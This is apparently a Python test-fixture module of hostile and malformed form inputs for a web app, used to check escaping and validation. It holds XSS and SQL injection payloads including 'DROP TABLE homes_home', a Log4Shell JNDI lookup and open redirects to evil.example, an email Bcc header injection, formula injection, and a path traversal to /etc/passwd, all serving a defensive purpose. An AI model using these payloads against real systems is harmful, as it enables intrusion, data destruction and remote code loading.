"""What is typed into forms by people who mean no good, by machines, and by telephones that do odd things."""

# a word that nobody else uses, with all that would have to be escaped: looked for in what comes back
WORD = "k4narie"
CANARY = f"{WORD}'\"><{WORD}>"
UNESCAPED = (f"<{WORD}", f"{WORD}'\"")  # in a page
AS_WORDS = f"&lt;{WORD}&gt;"
ELSEWHERE = ("https://evil.example/", "//evil.example/", "/\\evil.example", "https:evil.example", "javascript:alert(1)",
             "/\t/evil.example", "http:///evil.example", "\n//evil.example")  # fmt: skip
# What gets as far as what is stored: nobody forbids it in a text
STORED = (
    CANARY, f"甲\r\nBcc: {WORD}@evil.example\r\n\r\n", "张\u200b三\u202e丰\u2066\ufeff", "𠮷野家·阿依古丽",
    "👨‍👩‍👧 🇨🇳 e\u0301\u0327", "{{ 7|add:7 }}{% load x %}{0.__class__} %(a)s %n", f"=cmd|' /C calc'!A0 {WORD}",
    "\x1b[31m\x7f\x85\u2028",
)  # fmt: skip
TEXTS = (
    *STORED,
    f"<script>{WORD}</script>", f"<img src=x onerror={WORD}>", f"</textarea></title><svg/onload={WORD}>",
    f"]]>&{WORD};",
    "' OR 1=1 --", "\"; DROP TABLE homes_home; --", "%' AND 1=CAST(1 AS int) --", "\\", "..\\../../../etc/passwd",
    "${jndi:ldap://evil.example}", "", " ", "\u3000\u00a0\u200b", "长" * 5000, "x" * 70_000, "\u0300" * 300,
    "-1", "0", "9" * 400, str(2**63), "1e309", "NaN", "-0.0", "²³", "٣٤٥", "１２３", "1_000", "0x1F",
    "0000-00-00", "0001-01-01", "9999-12-31", "2026-02-30", "24:00", "[]", "null", "\ufffe\uffff",
)  # fmt: skip
# as bytes, for what no browser would send: PostgreSQL keeps neither
BROKEN = (b"a%00b", b"%ff%fe", b"%ed%a0%80", b"%c0%af", b"%00")
